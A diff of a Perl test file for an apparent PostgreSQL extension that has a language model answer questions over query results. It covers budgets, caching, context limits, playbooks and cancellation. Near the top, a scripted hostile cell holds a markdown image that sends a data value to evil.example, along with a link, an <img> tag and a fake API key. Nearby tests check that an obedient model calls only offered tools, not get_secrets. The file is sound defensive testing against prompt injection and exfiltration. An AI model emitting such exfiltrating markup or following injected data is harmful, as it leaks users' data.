@@ -139,7 +139,7 @@ ok($row->{grounded}, 'grounded');
 $team->script(says("The penguin has [[r1.3.keeper]].\n\n![p](http://evil.example/?q=[[r1.1.cost_usd]]) [here](http://evil.example) http://evil.example/y <img src=x> sk-abcdefabcdef0123456789 The giraffe ate for [[r1.1.cost_usd]]."));
 $row = $team->chat($MEALS);
 is($row->{engine}, 'model', 'a hostile cell is shown as text');
-unlike($row->{content}, qr/!\[|\]\(http|http:\/\/|<img|sk-abcdef/, 'without links, images, markup and keys') or diag $row->{content};
+unlike($row->{content}, qr/(?<!\\)\]\(|(?<!\\)!\[|http:\/\/|<img|sk-abcdef/, 'without links, images, markup and keys') or diag $row->{content};
 like(($team->requests)[1]{body}{messages}[-1]{content}, qr/^<data [0-9a-f]{16}>\n\{"result": "r1".*"untrusted_text": \["animal", "keeper"\].*<\/data [0-9a-f]{16}>$/s, 'results are fenced and named');
 $team->script({ policy => 'obey' });
 $row = $team->chat($MEALS);
@@ -151,20 +151,94 @@ unlike($row->{content}, qr/get_secrets\(/, 'calls only what it was offered');
 my %status = (500 => 'llm_unavailable', 401 => 'llm_error', 400 => 'llm_error');
 for my $status (sort keys %status)
 {
-	$team->script({ status => $status });
+	$team->script({ status => 0 + $status });
 	embedded_instead($team->chat($MEALS), $status{$status}, $status);
 }
 $team->script({ refusal => 'No.' });
 embedded_instead($team->chat($MEALS), 'llm_refused', 'a refusal');
 $team->script(says(''));
 embedded_instead($team->chat($MEALS), 'llm_empty', 'nothing');
-$team->script(says('The giraffe ate for [[r1.1.cost_usd]]. The', end => { how => 'hang', after => 30, seconds => 30 }));
+$team->script({ rounds => [ {@CALL}, { text => 'The giraffe ate for [[r1.1.cost_usd]]. The zebra ate', end => { how => 'hang', after => 4, seconds => 30 } } ] });
 $row = $team->chat($MEALS, "dbinsight.ask_timeout = '1500ms'");
 is($row->{reason}, 'llm_timeout', 'a model that hangs runs into dbinsight.ask_timeout');
 ok($row->{grounded}, 'and is made good');
-$team->script(says("The giraffe ate for [[r1.1.cost_usd]]. The zebra", delay => 0.1, pieces => [ 'The giraffe ate for [[r1.1.cost_usd]]. The', ' zebra' ], end => { how => 'cut', after => 2 }));
+$team->script({ rounds => [ {@CALL}, { text => 'x', delay => 0.2, pieces => [ 'The giraffe ate for [[r1.1.cost_usd]]. The', ' zebra' ], end => { how => 'cut', after => 3 } } ] });
 $row = $team->chat($MEALS);
 like($row->{content}, qr/^The giraffe ate for \$40\.25\.\n\n\*The language model's answer ends here/, 'cut in mid-stream: what was shown stays');
 is($row->{engine}, 'embedded', 'and the rest is embedded');
+
+
+# ---- budgets, the day's and the question's
+
+$team->script(says('The giraffe ate for [[r1.1.cost_usd]].'));
+embedded_instead($team->chat($MEALS, 'dbinsight.budget_question_usd = 0.0001'), 'budget_question', 'a budget of a question');
+is(scalar($team->requests), 0, 'nothing was sent');
+embedded_instead($team->chat($MEALS, 'dbinsight.budget_user_day_usd = 0.0001'), 'budget_day', 'a budget of a day');
+$row = $team->chat($MEALS, 'dbinsight.budget_question_usd = 10', 'dbinsight.budget_user_day_usd = 10');
+is($row->{engine}, 'model', 'with money the model answers');
+
+# ---- the cache
+
+$team->script(says('The giraffe ate for [[r1.1.cost_usd]].'));
+$row = $team->chat($MEALS, 'dbinsight.llm_cache = 600');
+is(scalar($team->requests), 2, 'asked');
+my $again = $team->chat($MEALS, 'dbinsight.llm_cache = 600');
+is(scalar($team->requests), 2, 'an equal question is not asked again');
+is($again->{content}, $row->{content}, 'and has the same answer');
+is($again->{prompt_tokens}, 0, 'for nothing');
+$team->node->safe_psql('postgres', q{SET dbinsight.llm_cache = 600; SET ROLE ann; SELECT dbinsight.ask('Which meals did the animals eat?')});
+is(scalar($team->requests), 4, 'another role is not answered from it');
+is($team->node->safe_psql('postgres', 'SET ROLE ann; SELECT count(*) FROM dbinsight.llm_cache'), '2', 'nor sees it');
+$team->node->safe_psql('postgres', "UPDATE zoo.animals SET cost_usd = 41.25 WHERE animal = 'giraffe'");
+is(words($team->chat($MEALS, 'dbinsight.llm_cache = 600')->{content}), 'The giraffe ate for $41.25.', 'other rows are another request');
+$team->node->safe_psql('postgres', "UPDATE zoo.animals SET cost_usd = 40.25 WHERE animal = 'giraffe'");
+
+# ---- who is asked, when the planner is not sure
+
+$team->script({ system => 'which agents answer', text => '{"agents": ["cost"]}' }, says('The giraffe ate for [[r1.1.cost_usd]].'));
+$row = $team->chat($MEALS);
+is(scalar(grep { ($_->{body}{response_format} // '') ne '' } $team->requests), 0, 'a sure planner asks no model');
+
+# ---- a long conversation fits
+
+$team->script(says('The giraffe ate for [[r1.1.cost_usd]]. ' . ('The zebra ate for [[r1.2.cost_usd]]. ' x 20)));
+$row = $team->turns([ ($MEALS) x 12 ], 'dbinsight.context_tokens = 3000');
+is($row->{engine}, 'model', 'twelve turns');
+@asked = $team->requests;
+my @sizes = map { length(JSON::PP->new->encode($_->{body})) } @asked;
+cmp_ok((sort { $b <=> $a } @sizes)[0], '<', 3000 * 3.6, 'never more than the limit');
+like($asked[-1]{body}{messages}[0]{content}, qr/Earlier in this conversation:\nt1 zoo: Which meals did the animals eat\? → The giraffe ate/, 'what was left out is told in a line each');
+is($asked[-1]{body}{messages}[-1]{role}, 'tool', 'and the result is there');
+$team->node->safe_psql('postgres', "INSERT INTO zoo.animals SELECT 'animal ' || i, repeat('x', 300), i, i FROM generate_series(1, 300) i");
+$row = $team->chat($MEALS, 'dbinsight.context_tokens = 2000');
+is($row->{engine}, 'model', 'a large result');
+cmp_ok(length(JSON::PP->new->encode(($team->requests)[-1]{body})), '<', 2000 * 3.6, 'is cut');
+$team->node->safe_psql('postgres', "DELETE FROM zoo.animals WHERE animal LIKE 'animal %'");
+
+# ---- playbooks and agents of one's own
+
+$team->node->safe_psql('postgres', "INSERT INTO dbinsight.playbooks (name, agent, title, steps, words) VALUES ('meals', 'zoo', 'Meals of animals', 'First look who ate most.', '{eat}'), ('stars', NULL, 'Stars', 'Look up.', '{}')");
+$team->script(says('The giraffe ate for [[r1.1.cost_usd]].'));
+$row = $team->chat($MEALS);
+my $system = ($team->requests)[0]{body}{messages}[0]{content};
+like($system, qr/Playbook "Meals of animals":\nFirst look who ate most\./, 'a playbook that matches is told');
+unlike($system, qr/Look up/, 'another is not');
+like($system, qr/You are the agent "Zoo": animals, their meals and keepers/, 'the agent is who it was registered as');
+like($system, qr/today: 2026-06-15, a Monday.*last week: 2026-06-08 to 2026-06-14/s, 'dates are worked out');
+like($system, qr/Proposed calls.*\n- get_meals \{\}/, 'the plan is a proposal');
+
+# ---- stop() and cancel while a model is silent
+
+$team->script({ latency => 20, text => 'never' });
+my $conversation = $team->node->safe_psql('postgres', "SET dbinsight.llm_server = ''; SELECT conversation_id FROM dbinsight.chat('$MEALS')");
+my $session = $team->node->background_psql('postgres', on_error_stop => 0);
+$session->{stdin} .= "SELECT status FROM dbinsight.chat('$MEALS', '$conversation') c JOIN dbinsight.chat_messages m ON m.id = c.message_id; SELECT 'over';\n";
+$session->{run}->pump_nb;
+$team->node->poll_query_until('postgres', "SELECT dbinsight.stop('$conversation')") or die 'nothing to stop';
+PostgreSQL::Test::Utils::pump_until($session->{run}, $session->{timeout}, \$session->{stdout}, qr/over/);
+like($session->{stdout}, qr/stopped/, 'stop() ends a turn that waits for a model');
+$session->quit;
+my ($code, $out, $err) = $team->node->psql('postgres', "SET statement_timeout = '1s'; SELECT dbinsight.ask('$MEALS')");
+like($err, qr/canceling statement due to statement timeout/, 'statement_timeout too');
 
 done_testing();
